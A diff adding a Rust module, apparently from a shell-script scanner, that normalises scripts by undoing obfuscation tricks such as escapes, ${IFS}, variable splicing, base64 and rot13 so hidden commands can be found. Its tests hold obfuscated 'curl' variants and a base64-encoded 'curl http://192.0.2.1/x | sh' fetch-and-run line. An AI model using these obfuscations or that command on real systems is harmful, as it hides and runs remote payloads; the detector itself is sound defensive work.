@@ -1,0 +1,325 @@
+//! A script's normal form: what is left when the tricks that hide words from a reader are undone.
+//!
+//! Quotes within words, backslashes, line continuations, `${IFS}`, `\x41` and `\101` escapes, variables with
+//! literal values and their substrings are resolved; comment lines are dropped; decoded layers are appended.
+//! Every byte remembers where in the script it came from, so that a verdict can point there.
+
+use std::collections::HashMap;
+
+use super::decode;
+
+/// Layers within layers that are followed.
+const DEPTH_MAX: usize = 3;
+/// A variable's value longer than this is not put in place of its name.
+const VALUE_MAX: usize = 64;
+/// Variables remembered.
+const VARIABLES_MAX: usize = 512;
+/// Decoded text is bounded by this, plus the length of the script.
+const LAYERS_BYTES: usize = 256 * 1024;
+
+/// Marks the beginning of a decoded layer in the normal form: a byte that no text holds.
+pub(super) const LAYER: u8 = 0x0e;
+
+/// The normal form. Buffers are kept from script to script.
+#[derive(Default)]
+pub(super) struct Normal {
+    /// The text.
+    pub(super) text: Vec<u8>,
+    /// For each byte of `text`, the position in the script it came from.
+    pub(super) origin: Vec<u32>,
+    variables: HashMap<Vec<u8>, Vec<u8>>,
+    layers: Vec<(u32, Vec<u8>)>,
+    next: Vec<(u32, Vec<u8>)>,
+}
+
+impl Normal {
+    /// Brings a script into normal form.
+    pub(super) fn form(&mut self, script: &[u8]) {
+        self.text.clear();
+        self.origin.clear();
+        self.variables.clear();
+        self.layers.clear();
+        self.find_layers(script, None);
+        self.flatten(script, None);
+        let mut budget = LAYERS_BYTES + script.len();
+        for _ in 0..DEPTH_MAX {
+            if self.layers.is_empty() {
+                break;
+            }
+            std::mem::swap(&mut self.layers, &mut self.next);
+            let mut found = std::mem::take(&mut self.next);
+            for (at, layer) in found.drain(..) {
+                if layer.len() > budget {
+                    continue;
+                }
+                budget -= layer.len();
+                self.push(b'\n', at);
+                self.push(LAYER, at);
+                self.find_layers(&layer, Some(at));
+                self.flatten(&layer, Some(at));
+            }
+            self.next = found;
+        }
+    }
+
+    /// Collects what `text` hides. Positions are those of the script, or `fixed` within a layer.
+    fn find_layers(&mut self, text: &[u8], fixed: Option<u32>) {
+        let layers = &mut self.layers;
+        let mut add = |start: usize, _end: usize, layer: Vec<u8>| {
+            layers.push((fixed.unwrap_or(start as u32), layer));
+        };
+        decode::layers(text, &mut add);
+        if has_word(text, b"rev") || memchr::memmem::find(text, b"[::-1]").is_some() {
+            decode::reversed_strings(text, &mut add);
+        }
+        if memchr::memmem::find(text, b"n-za-m").is_some() {
+            add(0, text.len(), decode::rot13(text));
+        }
+    }
+
+    fn push(&mut self, byte: u8, at: u32) {
+        self.text.push(byte);
+        self.origin.push(at);
+    }
+
+    /// Appends the normal form of `source`.
+    fn flatten(&mut self, source: &[u8], fixed: Option<u32>) {
+        let at = |i: usize| fixed.unwrap_or(i as u32);
+        let mut i = 0;
+        let mut line_start = true;
+        // Where the current word begins in `text`, for assignments.
+        let mut word = self.text.len();
+        while i < source.len() {
+            let byte = source[i];
+            if line_start && byte == b'#' && !(i == 0 && source.get(1) == Some(&b'!')) {
+                i += memchr::memchr(b'\n', &source[i..]).unwrap_or(source.len() - i);
+                continue;
+            }
+            line_start = byte == b'\n' || line_start && matches!(byte, b' ' | b'\t');
+            match byte {
+                b'\\' => {
+                    let (bytes, used) = escape(&source[i..]);
+                    match bytes {
+                        Escape::Nothing => {}
+                        Escape::Byte(b) => self.push(b, at(i)),
+                        Escape::Keep => self.push(b'\\', at(i)),
+                    }
+                    i += used;
+                }
+                // Quotes only join; what they protect is looked at all the same.
+                b'\'' | b'"' => i += 1,
+                b'$' => i += self.dollar(&source[i..], at(i)),
+                b'\r' => i += 1,
+                0 => {
+                    self.push(b' ', at(i));
+                    i += 1;
+                }
+                _ => {
+                    let ends_word = matches!(byte, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'`');
+                    if ends_word {
+                        self.learn(word);
+                    }
+                    self.push(byte, at(i));
+                    if ends_word {
+                        word = self.text.len();
+                    }
+                    i += 1;
+                }
+            }
+        }
+        self.learn(word);
+    }
+
+    /// Remembers `name=value` when the value is literal.
+    fn learn(&mut self, word: usize) {
+        let text = &self.text[word..];
+        let Some(equals) = memchr::memchr(b'=', &text[..text.len().min(40)]) else { return };
+        let (name, value) = (&text[..equals], &text[equals + 1..]);
+        let is_name = !name.is_empty() && !name[0].is_ascii_digit() && name.iter().all(|b| is_name_byte(*b));
+        if !is_name || value.is_empty() || value.len() > 4096 || value.iter().any(|b| matches!(b, b'$' | b'`')) {
+            return;
+        }
+        if self.variables.len() < VARIABLES_MAX || self.variables.contains_key(name) {
+            self.variables.insert(name.to_vec(), value.to_vec());
+        }
+    }
+
+    /// Handles what begins with a dollar; returns how many bytes were used.
+    fn dollar(&mut self, source: &[u8], at: u32) -> usize {
+        match source.get(1) {
+            // $'…' and $"…": the quotes go, escapes inside are decoded as they come.
+            Some(b'\'' | b'"') => 1,
+            Some(b'{') => {
+                let Some(close) = source.iter().take(80).position(|b| *b == b'}') else {
+                    self.push(b'$', at);
+                    return 1;
+                };
+                let inner = &source[2..close];
+                let name_end = inner.iter().position(|b| !is_name_byte(*b)).unwrap_or(inner.len());
+                let (name, rest) = inner.split_at(name_end);
+                if !self.resolve(name, rest, at) {
+                    for b in &source[..=close] {
+                        if !matches!(b, b'\'' | b'"') {
+                            self.push(*b, at);
+                        }
+                    }
+                }
+                close + 1
+            }
+            Some(b) if is_name_byte(*b) && !b.is_ascii_digit() => {
+                let end = source[1..].iter().position(|b| !is_name_byte(*b)).map_or(source.len(), |n| n + 1);
+                if !self.resolve(&source[1..end], b"", at) {
+                    for b in &source[..end] {
+                        self.push(*b, at);
+                    }
+                }
+                // `$IFS$9` and the like: an unset positional parameter only separates.
+                end
+            }
+            // Unset positional parameters and `$@` between letters vanish: `c$@url`, `w$1get`.
+            Some(b'@' | b'*' | b'0'..=b'9') if self.text.last().is_some_and(u8::is_ascii_alphanumeric)
+                && source.get(2).is_some_and(u8::is_ascii_alphanumeric) =>
+            {
+                2
+            }
+            _ => {
+                self.push(b'$', at);
+                1
+            }
+        }
+    }
+
+    /// Puts a variable's value in place of its name, when it is known and short.
+    fn resolve(&mut self, name: &[u8], rest: &[u8], at: u32) -> bool {
+        if name == b"IFS" {
+            self.push(b' ', at);
+            return true;
+        }
+        let Some(value) = self.variables.get(name) else { return false };
+        let value = match rest {
+            b"" => value.as_slice(),
+            [b':', digits @ ..] => match substring(value, digits) {
+                Some(part) => part,
+                None => return false,
+            },
+            // Case changes and the like keep the letters.
+            [b',' | b'^', ..] => value.as_slice(),
+            _ => return false,
+        };
+        if value.len() > VALUE_MAX {
+            return false;
+        }
+        let value = value.to_vec();
+        for b in value {
+            self.push(b, at);
+        }
+        true
+    }
+}
+
+/// `offset` or `offset:length` of a parameter expansion, applied.
+fn substring<'a>(value: &'a [u8], spec: &[u8]) -> Option<&'a [u8]> {
+    let mut numbers = spec.split(|b| *b == b':').map(|n| std::str::from_utf8(n).ok()?.trim().parse::<usize>().ok());
+    let start = numbers.next()??.min(value.len());
+    let end = match numbers.next() {
+        None => value.len(),
+        Some(length) => start.saturating_add(length?).min(value.len()),
+    };
+    Some(&value[start..end])
+}
+
+enum Escape {
+    Nothing,
+    Byte(u8),
+    Keep,
+}
+
+/// What a backslash and the bytes behind it stand for, and how many bytes that took.
+fn escape(source: &[u8]) -> (Escape, usize) {
+    let digits = |from: usize, max: usize, radix: u32| {
+        let text: Vec<u8> = source[from..]
+            .iter()
+            .take(max)
+            .take_while(|b| (**b as char).is_digit(radix))
+            .copied()
+            .collect();
+        let value = std::str::from_utf8(&text).ok().and_then(|t| u32::from_str_radix(t, radix).ok());
+        value.map(|v| (v, text.len()))
+    };
+    match source.get(1) {
+        Some(b'\n') => (Escape::Nothing, 2),
+        Some(b'\r') if source.get(2) == Some(&b'\n') => (Escape::Nothing, 3),
+        Some(b'x') => match digits(2, 2, 16) {
+            Some((value, n)) => (Escape::Byte(value as u8), 2 + n),
+            None => (Escape::Nothing, 1),
+        },
+        Some(b'u') => match digits(2, 4, 16) {
+            Some((value, n)) if value < 128 => (Escape::Byte(value as u8), 2 + n),
+            _ => (Escape::Nothing, 1),
+        },
+        Some(b'0'..=b'7') => match digits(1, if source[1] == b'0' { 4 } else { 3 }, 8) {
+            Some((value, n)) if n >= 2 => (Escape::Byte(value as u8), 1 + n),
+            _ => (Escape::Nothing, 1),
+        },
+        // Line breaks written out, as in printf: a break, not the letter.
+        Some(b'n' | b't' | b'r') if source.get(2).is_none_or(|b| !b.is_ascii_lowercase()) => (Escape::Byte(b' '), 2),
+        Some(b'\\') => (Escape::Keep, 1),
+        _ => (Escape::Nothing, 1),
+    }
+}
+
+fn is_name_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_'
+}
+
+fn has_word(text: &[u8], word: &[u8]) -> bool {
+    memchr::memmem::find_iter(text, word).any(|i| {
+        let before = i.checked_sub(1).and_then(|j| text.get(j));
+        let after = text.get(i + word.len());
+        !before.is_some_and(|b| is_name_byte(*b)) && !after.is_some_and(|b| is_name_byte(*b))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn form(script: &str) -> String {
+        let mut normal = Normal::default();
+        normal.form(script.as_bytes());
+        assert_eq!(normal.text.len(), normal.origin.len());
+        String::from_utf8_lossy(&normal.text).into_owned()
+    }
+
+    #[test]
+    fn hidden_words_are_put_together() {
+        for hidden in [
+            r"c\url -s x",
+            r#"c"u"r'l' -s x"#,
+            "cu\\\nrl -s x",
+            "curl${IFS}-s${IFS}x",
+            r"$'\x63\x75\x72\x6c' -s x",
+            r"$'\143\165\162\154' -s x",
+            "c$@url -s x",
+        ] {
+            assert_eq!(form(hidden), "curl -s x", "{hidden}");
+        }
+        assert!(form("a=cu;b=rl\n$a${b} -s x").ends_with("curl -s x"));
+        assert!(form("k=xcurlx; ${k:1:4} -s x").ends_with("curl -s x"));
+    }
+
+    #[test]
+    fn layers_are_appended_and_point_to_where_they_were_hidden() {
+        let script = "id\necho Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA== | base64 -d | sh";
+        let mut normal = Normal::default();
+        normal.form(script.as_bytes());
+        let text = String::from_utf8_lossy(&normal.text).into_owned();
+        let at = text.find("curl http://192.0.2.1/x | sh").unwrap();
+        assert_eq!(normal.origin[at] as usize, script.find("Y3").unwrap());
+    }
+
+    #[test]
+    fn comment_lines_go_and_the_shebang_stays() {
+        assert_eq!(form("#!/bin/sh\n# a comment\n  # another\nid # kept\n"), "#!/bin/sh\n\n  \nid # kept\n");
+    }
+}
